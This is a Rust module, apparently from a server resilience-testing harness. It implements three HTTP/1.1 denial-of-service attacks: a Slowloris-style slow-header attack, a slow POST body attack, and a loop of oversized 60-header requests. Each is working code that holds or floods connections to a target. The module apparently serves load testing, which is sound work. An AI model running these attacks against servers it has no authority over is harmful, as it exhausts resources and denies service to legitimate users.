//! Attacks of authenticated clients over HTTP/1.1.

use std::time::Duration;

use anyhow::Result;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::time::sleep;

use super::Attack;
use crate::client::{Client, Sessions};

/// Connections of each attacker.
const SLOW_EACH: u32 = 24;
/// Between two octets.
const SLOW: Duration = Duration::from_millis(10);

pub(super) async fn slow_heads(attack: &Attack, number: u32) -> Result<()> {
    let head = format!("GET / HTTP/1.1\r\nHost: {}\r\nX: ", attack.target.name);
    slowly(attack, number, &head).await
}

pub(super) async fn slow_bodies(attack: &Attack, number: u32) -> Result<()> {
    let head = format!(
        "POST / HTTP/1.1\r\nHost: {}\r\nContent-Length: 1000000\r\n\r\n",
        attack.target.name
    );
    slowly(attack, number, &head).await
}

async fn slowly(attack: &Attack, number: u32, head: &str) -> Result<()> {
    let client = Client::new(&attack.target, b"http/1.1", Sessions::Forget)?;
    let mut open = Vec::new();
    loop {
        while open.len() < SLOW_EACH as usize {
            let Ok(mut stream) = client.connect_from(attack.source(number)).await else {
                break;
            };
            if stream.write_all(head.as_bytes()).await.is_ok() {
                open.push(stream);
            }
        }
        let mut left = Vec::with_capacity(open.len());
        for mut stream in open {
            if stream.write_all(b"x").await.is_ok() && stream.flush().await.is_ok() {
                left.push(stream);
            }
        }
        open = left;
        sleep(SLOW).await;
    }
}

pub(super) async fn large_heads(attack: &Attack, number: u32) -> Result<()> {
    let client = Client::new(&attack.target, b"http/1.1", Sessions::Forget)?;
    let mut request = format!("GET / HTTP/1.1\r\nHost: {}\r\n", attack.target.name);
    for header in 0..60 {
        request += &format!("X-{header}: {}\r\n", "x".repeat(1000));
    }
    request += "\r\n";
    loop {
        let Ok(mut stream) = client.connect_from(attack.source(number)).await else {
            sleep(SLOW).await;
            continue;
        };
        let mut answer = vec![0; 16 * 1024];
        while stream.write_all(request.as_bytes()).await.is_ok()
            && stream.flush().await.is_ok()
            && stream.read(&mut answer).await.unwrap_or(0) > 0
        {}
    }
}
